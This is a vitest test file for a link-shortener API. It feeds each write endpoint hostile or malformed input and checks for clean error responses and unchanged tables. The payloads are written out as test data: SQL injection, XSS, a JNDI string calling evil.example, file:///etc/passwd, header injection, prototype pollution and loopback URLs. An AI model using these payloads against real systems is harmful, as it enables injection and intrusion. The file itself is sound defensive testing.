import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestKey, type TestKey } from './support/api-keys.ts'
import { snapshotTables } from './support/table-snapshot.ts'
import { auth, createScratchDatabase, startTestApp, type TestApp } from './support/test-app.ts'

/**
 * Every write endpoint, fed what an attacker or a buggy client sends: each answer is a problem+json
 * with the right status (and the field at fault), and no table changes, not even by one row.
 */
type Case = {
  name: string
  method?: 'POST' | 'PATCH' | 'DELETE' | 'GET'
  url: string
  body?: unknown
  /** Sent as is: malformed JSON, other content types. */
  raw?: string
  headers?: Record<string, string>
  key?: 'expired' | 'revoked' | 'readOnly' | 'publishable'
  status: number
  field?: string
}

const LINK = '/api/v1/links'
const KEYS = '/api/v1/keys'
const SHARES = '/api/v1/shares'
const EXISTING = 'bad-input-target'
const ONE = `${LINK}/${EXISTING}`

const SQL = "x'; drop table links; --"
const XSS = '<script>alert(1)</script>'
// biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
const TEMPLATE = '${jndi:ldap://evil.example/a}{{7*7}}'
const RTL = 'https://example.com/\u202Egnp.exe'
const HUGE = 'a'.repeat(70 * 1024)

const links: Case[] = [
  { name: 'javascript: URL', url: LINK, body: { url: 'javascript:alert(1)' }, status: 400, field: 'url' },
  { name: 'JaVaScRiPt: URL in mixed case', url: LINK, body: { url: 'JaVaScRiPt:alert(1)' }, status: 400, field: 'url' },
  { name: 'data: URL', url: LINK, body: { url: 'data:text/html;base64,PHNjcmlwdD4=' }, status: 400, field: 'url' },
  { name: 'file: URL', url: LINK, body: { url: 'file:///etc/passwd' }, status: 400, field: 'url' },
  { name: 'vbscript: URL', url: LINK, body: { url: 'vbscript:msgbox(1)' }, status: 400, field: 'url' },
  { name: 'ftp URL', url: LINK, body: { url: 'ftp://example.com/x' }, status: 400, field: 'url' },
  { name: 'relative URL', url: LINK, body: { url: '/etc/passwd' }, status: 400, field: 'url' },
  { name: 'protocol-relative URL', url: LINK, body: { url: '//evil.example' }, status: 400, field: 'url' },
  {
    name: 'URL with credentials',
    url: LINK,
    body: { url: 'https://admin:hunter2@example.com/' },
    status: 400,
    field: 'url',
  },
  { name: 'URL with a user only', url: LINK, body: { url: 'https://admin@example.com/' }, status: 400, field: 'url' },
  { name: 'URL with a NUL byte', url: LINK, body: { url: 'https://example.com/\u0000' }, status: 400, field: 'url' },
  {
    name: 'URL with CR LF (header injection)',
    url: LINK,
    body: { url: 'https://example.com/\r\nSet-Cookie: a=b' },
    status: 400,
    field: 'url',
  },
  { name: 'URL with a right-to-left override', url: LINK, body: { url: RTL }, status: 400, field: 'url' },
  {
    name: 'URL pointing at this shortener',
    url: LINK,
    body: { url: 'http://umbra.test/loop' },
    status: 400,
    field: 'url',
  },
  {
    name: 'URL at a blocked domain',
    url: LINK,
    body: { url: 'https://phish.blocked.example/login' },
    status: 400,
    field: 'url',
  },
  {
    name: 'URL of 2,049 characters',
    url: LINK,
    body: { url: `https://example.com/${'a'.repeat(2029)}` },
    status: 400,
    field: 'url',
  },
  {
    name: 'URL with a 64-character host label',
    url: LINK,
    body: { url: `https://${'a'.repeat(64)}.example/` },
    status: 400,
    field: 'url',
  },
  { name: 'URL that is only a scheme', url: LINK, body: { url: 'https://' }, status: 400, field: 'url' },
  { name: 'URL with SQL in it', url: LINK, body: { url: SQL }, status: 400, field: 'url' },
  { name: 'URL as a number', url: LINK, body: { url: 42 }, status: 400, field: 'url' },
  { name: 'URL as an array', url: LINK, body: { url: ['https://example.com'] }, status: 400, field: 'url' },
  { name: 'URL as null', url: LINK, body: { url: null }, status: 400, field: 'url' },
  { name: 'missing URL', url: LINK, body: {}, status: 400, field: 'url' },
  { name: 'code with SQL', url: LINK, body: { url: 'https://example.com', code: SQL }, status: 400, field: 'code' },
  {
    name: 'code with a path traversal',
    url: LINK,
    body: { url: 'https://example.com', code: '../admin' },
    status: 400,
    field: 'code',
  },
  {
    name: 'code with unicode',
    url: LINK,
    body: { url: 'https://example.com', code: 'café-crème' },
    status: 400,
    field: 'code',
  },
  {
    name: 'code of 65 characters',
    url: LINK,
    body: { url: 'https://example.com', code: 'a'.repeat(65) },
    status: 400,
    field: 'code',
  },
  { name: 'reserved code', url: LINK, body: { url: 'https://example.com', code: 'docs' }, status: 400, field: 'code' },
  {
    name: 'code already taken',
    url: LINK,
    body: { url: 'https://example.com', code: EXISTING },
    status: 409,
    field: 'code',
  },
  {
    name: 'title with a NUL byte',
    url: LINK,
    body: { url: 'https://example.com', title: 'a\u0000b' },
    status: 400,
    field: 'title',
  },
  {
    name: 'title with a right-to-left override',
    url: LINK,
    body: { url: 'https://example.com', title: 'invoice \u202Efdp.exe' },
    status: 400,
    field: 'title',
  },
  {
    name: 'title of 301 characters',
    url: LINK,
    body: { url: 'https://example.com', title: 't'.repeat(301) },
    status: 400,
    field: 'title',
  },
  {
    name: 'title as an object',
    url: LINK,
    body: { url: 'https://example.com', title: { $gt: '' } },
    status: 400,
    field: 'title',
  },
  {
    name: 'channel with XSS',
    url: LINK,
    body: { url: 'https://example.com', channel: XSS },
    status: 400,
    field: 'channel',
  },
  {
    name: 'channel with an emoji',
    url: LINK,
    body: { url: 'https://example.com', channel: 'whats📱' },
    status: 400,
    field: 'channel',
  },
  {
    name: 'topic with a template injection',
    url: LINK,
    body: { url: 'https://example.com', topics: [TEMPLATE] },
    status: 400,
    field: 'topics.0',
  },
  {
    name: 'topic that is only an emoji',
    url: LINK,
    body: { url: 'https://example.com', topics: ['🔥'] },
    status: 400,
    field: 'topics.0',
  },
  {
    name: '21 topics',
    url: LINK,
    body: { url: 'https://example.com', topics: Array.from({ length: 21 }, (_, i) => `t${i}`) },
    status: 400,
    field: 'topics',
  },
  {
    name: 'topics as a string',
    url: LINK,
    body: { url: 'https://example.com', topics: 'climate' },
    status: 400,
    field: 'topics',
  },
  {
    name: 'campaign with a NUL byte',
    url: LINK,
    body: { url: 'https://example.com', campaign: '\u0000' },
    status: 400,
    field: 'campaign',
  },
  {
    name: 'campaign with a bidi isolate',
    url: LINK,
    body: { url: 'https://example.com', campaign: 'spring\u2067sale' },
    status: 400,
    field: 'campaign',
  },
  {
    name: 'expiry with SQL',
    url: LINK,
    body: { url: 'https://example.com', expiresAt: `2030-01-01'; ${SQL}` },
    status: 400,
    field: 'expiresAt',
  },
  {
    name: 'expiry in the past',
    url: LINK,
    body: { url: 'https://example.com', expiresAt: '1999-12-31T23:59:59Z' },
    status: 400,
    field: 'expiresAt',
  },
  { name: 'unknown field', url: LINK, body: { url: 'https://example.com', owner: 'me' }, status: 400, field: 'owner' },
  {
    name: '__proto__ pollution',
    url: LINK,
    raw: '{"url":"https://example.com","__proto__":{"admin":true}}',
    status: 400,
  },
  {
    name: 'constructor.prototype pollution',
    url: LINK,
    raw: '{"url":"https://example.com","constructor":{"prototype":{"admin":true}}}',
    status: 400,
  },
  { name: 'malformed JSON', url: LINK, raw: '{"url": "https://example.com"', status: 400, field: 'body' },
  { name: 'empty JSON body', url: LINK, raw: '', status: 400 },
  { name: 'JSON array body', url: LINK, raw: '[{"url":"https://example.com"}]', status: 400 },
  { name: 'JSON null body', url: LINK, raw: 'null', status: 400 },
  { name: 'body over the size limit', url: LINK, body: { url: 'https://example.com', title: HUGE }, status: 413 },
  {
    name: 'text/plain body',
    url: LINK,
    raw: '{"url":"https://example.com"}',
    headers: { 'content-type': 'text/plain' },
    status: 415,
  },
  {
    name: 'form-encoded body',
    url: LINK,
    raw: 'url=https%3A%2F%2Fexample.com',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    status: 415,
  },
  {
    name: 'body without a content type',
    url: LINK,
    raw: '{"url":"https://example.com"}',
    headers: { 'content-type': '' },
    status: 415,
  },
  {
    name: 'XML body',
    url: LINK,
    raw: '<link><url>https://example.com</url></link>',
    headers: { 'content-type': 'application/xml' },
    status: 415,
  },
  { name: 'expired key', url: LINK, body: { url: 'https://example.com' }, key: 'expired', status: 401 },
  { name: 'revoked key', url: LINK, body: { url: 'https://example.com' }, key: 'revoked', status: 401 },
  { name: 'read-only key', url: LINK, body: { url: 'https://example.com' }, key: 'readOnly', status: 403 },
  { name: 'publishable key', url: LINK, body: { url: 'https://example.com' }, key: 'publishable', status: 403 },
  {
    name: 'key in the query string instead of the header',
    url: `${LINK}?api_key=${'A'.repeat(20)}`,
    body: { url: 'https://example.com' },
    headers: { authorization: '' },
    status: 401,
  },
  {
    name: 'Basic credentials',
    url: LINK,
    body: { url: 'https://example.com' },
    headers: { authorization: 'Basic YWRtaW46aHVudGVyMg==' },
    status: 401,
  },
  {
    name: 'bearer with SQL',
    url: LINK,
    body: { url: 'https://example.com' },
    headers: { authorization: `Bearer ${SQL.replaceAll(' ', '')}` },
    status: 401,
  },
]

const linkChanges: Case[] = [
  {
    name: 'PATCH with a javascript: URL',
    method: 'PATCH',
    url: ONE,
    body: { url: 'javascript:alert(1)' },
    status: 400,
    field: 'url',
  },
  {
    name: 'PATCH with credentials in the URL',
    method: 'PATCH',
    url: ONE,
    body: { url: 'https://a:b@example.com' },
    status: 400,
    field: 'url',
  },
  {
    name: 'PATCH disabled as a string',
    method: 'PATCH',
    url: ONE,
    body: { disabled: 'yes' },
    status: 400,
    field: 'disabled',
  },
  {
    name: 'PATCH the code (not changeable)',
    method: 'PATCH',
    url: ONE,
    body: { code: 'new-code' },
    status: 400,
    field: 'code',
  },
  {
    name: 'PATCH an expiry in the past',
    method: 'PATCH',
    url: ONE,
    body: { expiresAt: '2000-01-01T00:00:00Z' },
    status: 400,
    field: 'expiresAt',
  },
  {
    name: 'PATCH a title with a NUL byte',
    method: 'PATCH',
    url: ONE,
    body: { title: '\u0000' },
    status: 400,
    field: 'title',
  },
  { name: 'PATCH an unknown link', method: 'PATCH', url: `${LINK}/no-such-link`, body: { title: 'x' }, status: 404 },
  {
    name: 'PATCH a code with SQL in the path',
    method: 'PATCH',
    url: `${LINK}/${encodeURIComponent(SQL)}`,
    body: { title: 'x' },
    status: 404,
  },
  {
    name: 'PATCH as text/plain',
    method: 'PATCH',
    url: ONE,
    raw: '{"title":"x"}',
    headers: { 'content-type': 'text/plain' },
    status: 415,
  },
  { name: 'PATCH with a revoked key', method: 'PATCH', url: ONE, body: { title: 'x' }, key: 'revoked', status: 401 },
  { name: 'DELETE an unknown link', method: 'DELETE', url: `${LINK}/no-such-link`, status: 404 },
  { name: 'DELETE with a read-only key', method: 'DELETE', url: ONE, key: 'readOnly', status: 403 },
  { name: 'DELETE with an expired key', method: 'DELETE', url: ONE, key: 'expired', status: 401 },
]

const keys: Case[] = [
  { name: 'key without a name', url: KEYS, body: { scopes: ['links:read'] }, status: 400, field: 'name' },
  {
    name: 'key name of 101 characters',
    url: KEYS,
    body: { name: 'n'.repeat(101), scopes: ['links:read'] },
    status: 400,
    field: 'name',
  },
  {
    name: 'key name with a NUL byte',
    url: KEYS,
    body: { name: 'a\u0000', scopes: ['links:read'] },
    status: 400,
    field: 'name',
  },
  {
    name: 'key name with a right-to-left override',
    url: KEYS,
    body: { name: 'cms\u202Enimda', scopes: ['links:read'] },
    status: 400,
    field: 'name',
  },
  {
    name: 'key with an unknown scope',
    url: KEYS,
    body: { name: 'k', scopes: ['root'] },
    status: 400,
    field: 'scopes.0',
  },
  { name: 'key with a scope with SQL', url: KEYS, body: { name: 'k', scopes: [SQL] }, status: 400, field: 'scopes.0' },
  {
    name: 'key with scopes as a string',
    url: KEYS,
    body: { name: 'k', scopes: 'keys:admin' },
    status: 400,
    field: 'scopes',
  },
  {
    name: 'key of an unknown kind',
    url: KEYS,
    body: { name: 'k', kind: 'master', scopes: ['links:read'] },
    status: 400,
    field: 'kind',
  },
  {
    name: 'publishable key asking for keys:admin',
    url: KEYS,
    body: { name: 'k', kind: 'publishable', scopes: ['keys:admin'], origins: ['https://a.example'] },
    status: 400,
    field: 'scopes',
  },
  {
    name: 'publishable key with a null origin',
    url: KEYS,
    body: { name: 'k', kind: 'publishable', origins: ['null'] },
    status: 400,
    field: 'origins',
  },
  {
    name: 'publishable key with an XSS origin',
    url: KEYS,
    body: { name: 'k', kind: 'publishable', origins: [`https://a.example/${XSS}`] },
    status: 400,
    field: 'origins',
  },
  {
    name: 'key expiring in the past',
    url: KEYS,
    body: { name: 'k', scopes: ['links:read'], expiresAt: '2001-01-01T00:00:00Z' },
    status: 400,
    field: 'expiresAt',
  },
  {
    name: 'key with a caller-chosen secret',
    url: KEYS,
    body: { name: 'k', scopes: ['links:read'], secret: 'umb_mine' },
    status: 400,
    field: 'secret',
  },
  {
    name: 'key made by a links:write key',
    url: KEYS,
    body: { name: 'k', scopes: ['keys:admin'] },
    key: 'readOnly',
    status: 403,
  },
  {
    name: 'key made by a publishable key',
    url: KEYS,
    body: { name: 'k', scopes: ['keys:admin'] },
    key: 'publishable',
    status: 403,
  },
  {
    name: 'revoke a key id that is not a number',
    method: 'DELETE',
    url: `${KEYS}/1%20or%201=1`,
    status: 400,
    field: 'id',
  },
  { name: 'revoke an unknown key', method: 'DELETE', url: `${KEYS}/999999999`, status: 404 },
  { name: 'revoke with a revoked key', method: 'DELETE', url: `${KEYS}/1`, key: 'revoked', status: 401 },
]

const shares: Case[] = [
  {
    name: 'share kit of a javascript: URL',
    url: SHARES,
    body: { url: 'javascript:alert(1)' },
    status: 400,
    field: 'url',
  },
  {
    name: 'share kit with an unknown field',
    url: SHARES,
    body: { url: 'https://example.com/a', owner: 'x' },
    status: 400,
    field: 'owner',
  },
  {
    name: 'share kit as text/plain',
    url: SHARES,
    raw: '{"url":"https://example.com/a"}',
    headers: { 'content-type': 'text/plain' },
    status: 415,
  },
  { name: 'share kit with malformed JSON', url: SHARES, raw: '{"url":', status: 400, field: 'body' },
  {
    name: 'share kit with a NUL byte in its title',
    url: SHARES,
    body: { url: 'https://example.com/a', title: 'a\u0000' },
    status: 400,
    field: 'title',
  },
  {
    name: 'share kit with a read-only key',
    url: SHARES,
    body: { url: 'https://example.com/a' },
    key: 'readOnly',
    status: 403,
  },
  { name: 'retag with nothing to change', method: 'PATCH', url: `${SHARES}/1`, body: {}, status: 400, field: 'body' },
  {
    name: 'retag a kit with a new URL',
    method: 'PATCH',
    url: `${SHARES}/1`,
    body: { url: 'https://example.com/b' },
    status: 400,
    field: 'url',
  },
  {
    name: 'retag with topics as a string',
    method: 'PATCH',
    url: `${SHARES}/1`,
    body: { topics: 'climate' },
    status: 400,
    field: 'topics',
  },
  {
    name: 'retag with a publishable key',
    method: 'PATCH',
    url: `${SHARES}/1`,
    body: { title: 'x' },
    key: 'publishable',
    status: 403,
  },
  {
    name: 'retag a kit that does not exist',
    method: 'PATCH',
    url: `${SHARES}/999999999`,
    body: { title: 'x' },
    status: 404,
  },
]

const reads: Case[] = [
  {
    name: 'list with a forged cursor',
    method: 'GET',
    url: `${LINK}?cursor=${Buffer.from('0 or 1=1').toString('base64url')}`,
    status: 400,
    field: 'cursor',
  },
  { name: 'list with a cursor of garbage', method: 'GET', url: `${LINK}?cursor=%00%01`, status: 400, field: 'cursor' },
  { name: 'list with limit 201', method: 'GET', url: `${LINK}?limit=201`, status: 400, field: 'limit' },
  { name: 'list with limit 0', method: 'GET', url: `${LINK}?limit=0`, status: 400, field: 'limit' },
  { name: 'list with limit -1', method: 'GET', url: `${LINK}?limit=-1`, status: 400, field: 'limit' },
  { name: 'list with limit abc', method: 'GET', url: `${LINK}?limit=abc`, status: 400, field: 'limit' },
  {
    name: 'list with an unknown parameter',
    method: 'GET',
    url: `${LINK}?sort=${encodeURIComponent(SQL)}`,
    status: 400,
    field: 'sort',
  },
  {
    name: 'key list with a forged cursor',
    method: 'GET',
    url: `${KEYS}?cursor=${Buffer.from('-1').toString('base64url')}`,
    status: 400,
    field: 'cursor',
  },
]

// Issue 13 (8): what Postgres cannot take (NUL in text, ids past int8) is a 400 naming the field, never a 500.
const INT8_PAST_MAX = '9223372036854775808'
const nulAndBigIds: Case[] = [
  { name: 'search with a NUL byte', method: 'GET', url: `${LINK}?q=a%00b`, status: 400, field: 'q' },
  { name: 'link code with a NUL byte', method: 'GET', url: `${LINK}/a%00b`, status: 400, field: 'code' },
  { name: 'stats of a code with a NUL byte', method: 'GET', url: `${LINK}/a%00b/stats`, status: 400, field: 'code' },
  {
    name: 'export of a link code with a NUL byte',
    method: 'GET',
    url: '/api/v1/exports/clicks.csv?link=a%00b',
    status: 400,
    field: 'link',
  },
  {
    name: 'revoke a 19-digit key id past int8',
    method: 'DELETE',
    url: `${KEYS}/${INT8_PAST_MAX}`,
    status: 400,
    field: 'id',
  },
  {
    name: 'retag a 19-digit kit id past int8',
    method: 'PATCH',
    url: `${SHARES}/9999999999999999999`,
    body: { title: 'x' },
    status: 400,
    field: 'id',
  },
  {
    name: 'content report of an id past int8',
    method: 'GET',
    url: `/api/v1/reports/content/${INT8_PAST_MAX}`,
    status: 400,
    field: 'id',
  },
  {
    name: 'funnel report of a content id past int8',
    method: 'GET',
    url: `/api/v1/reports/funnel?content=${INT8_PAST_MAX}`,
    status: 400,
    field: 'content',
  },
  {
    name: 'list with a cursor past int8',
    method: 'GET',
    url: `${LINK}?cursor=${Buffer.from(INT8_PAST_MAX).toString('base64url')}`,
    status: 400,
    field: 'cursor',
  },
  {
    name: 'kit list with a cursor past int8',
    method: 'GET',
    url: `${SHARES}?cursor=${Buffer.from('9999999999999999999').toString('base64url')}`,
    status: 400,
    field: 'cursor',
  },
]

// Issue 13 (9): other names of this machine or this instance would loop, or send visitors to their own machine.
const loops: Case[] = [
  ...[
    'http://localhost/x',
    'http://[::1]/x',
    'http://[::ffff:127.0.0.1]/x',
    'http://0.0.0.0/x',
    'http://127.3.4.5/x',
  ].map(
    (url): Case => ({ name: `URL at ${new URL(url).hostname}`, url: LINK, body: { url }, status: 400, field: 'url' }),
  ),
  {
    name: 'URL at our own host on another port',
    url: LINK,
    body: { url: 'http://umbra.test:8443/x' },
    status: 400,
    field: 'url',
  },
  {
    name: 'PATCH a target to localhost',
    method: 'PATCH',
    url: ONE,
    body: { url: 'http://LOCALHOST./admin' },
    status: 400,
    field: 'url',
  },
  {
    name: 'share kit of a loopback page',
    url: SHARES,
    body: { url: 'http://127.0.0.1:3000/a' },
    status: 400,
    field: 'url',
  },
]

// Bidi controls reorder what a reader sees (a share text, a key list): refused like in URLs.
const bidi: Case[] = [
  {
    name: 'share kit title with a right-to-left mark',
    url: SHARES,
    body: { url: 'https://example.com/a', title: 'a\u200Fb' },
    status: 400,
    field: 'title',
  },
  {
    name: 'key name with a left-to-right embedding',
    url: KEYS,
    body: { name: 'cms\u202A', scopes: ['links:read'] },
    status: 400,
    field: 'name',
  },
]

const CASES = [...links, ...linkChanges, ...keys, ...shares, ...reads, ...nulAndBigIds, ...loops, ...bidi]

let t: TestApp
let scratch: Awaited<ReturnType<typeof createScratchDatabase>>
const keyHeaders: Record<NonNullable<Case['key']>, Record<string, string>> = {} as never

beforeAll(async () => {
  scratch = await createScratchDatabase()
  t = await startTestApp(
    {
      ...(scratch ? { DATABASE_URL: scratch.url } : {}),
      BLOCKED_DOMAINS: 'blocked.example',
      RATE_LIMIT_API_READS: '100000',
      RATE_LIMIT_API_WRITES: '100000',
    },
    scratch ? 'postgres' : 'embedded',
  )
  const key = (k: TestKey) => k.headers
  keyHeaders.readOnly = key(await createTestKey(t.app, { scopes: ['links:read'] }))
  keyHeaders.publishable = key(await createTestKey(t.app, { kind: 'publishable', origins: ['https://site.example'] }))
  keyHeaders.expired = key(
    await createTestKey(t.app, {
      scopes: ['links:write', 'keys:admin', 'shares:write'],
      expiresAt: new Date(Date.now() - 1000),
      now: 0,
    }),
  )
  const revoked = await createTestKey(t.app, { scopes: ['links:write', 'keys:admin', 'shares:write'] })
  await t.app.inject({ method: 'DELETE', url: `${KEYS}/${revoked.id}`, headers: auth })
  keyHeaders.revoked = revoked.headers
  expect(
    (
      await t.app.inject({
        method: 'POST',
        url: LINK,
        headers: auth,
        payload: { url: 'https://example.com/t', code: EXISTING },
      })
    ).statusCode,
  ).toBe(201)
})
afterAll(async () => {
  await t.close()
  await scratch?.drop()
})

describe('bad input on every write endpoint', () => {
  it('has at least 60 cases', () => expect(CASES.length).toBeGreaterThanOrEqual(60))

  it.each(CASES)('$name → $status', async (c) => {
    const before = await snapshotTables(t.app.pg)
    const headers = {
      ...auth,
      ...(c.key ? keyHeaders[c.key] : {}),
      ...(c.body !== undefined || c.raw !== undefined ? { 'content-type': 'application/json' } : {}),
      ...c.headers,
    }
    for (const name of ['authorization', 'content-type'] as const)
      if (headers[name] === '') delete (headers as Record<string, string>)[name]
    const res = await t.app.inject({
      method: c.method ?? 'POST',
      url: c.url,
      headers,
      ...(c.raw !== undefined ? { payload: c.raw } : c.body !== undefined ? { payload: JSON.stringify(c.body) } : {}),
    })
    expect(res.statusCode, res.body.slice(0, 300)).toBe(c.status)
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/)
    const problem = res.json()
    expect(problem).toMatchObject({
      type: expect.stringMatching(/^https:\/\/umbra\.dev\/problems\//),
      title: expect.any(String),
      status: c.status,
      detail: expect.any(String),
    })
    if (c.field) expect(problem.errors?.map((e: { field: string }) => e.field)).toContain(c.field)
    // Nothing internal leaks: no stack frames, no SQL, no driver messages.
    expect(res.body).not.toMatch(
      /\.ts:\d+|node_modules|at [\w.]+ \(|\bselect\b.*\bfrom\b|\binsert into\b|violates|syntax error at/i,
    )
    expect(await snapshotTables(t.app.pg)).toEqual(before)
  })
})
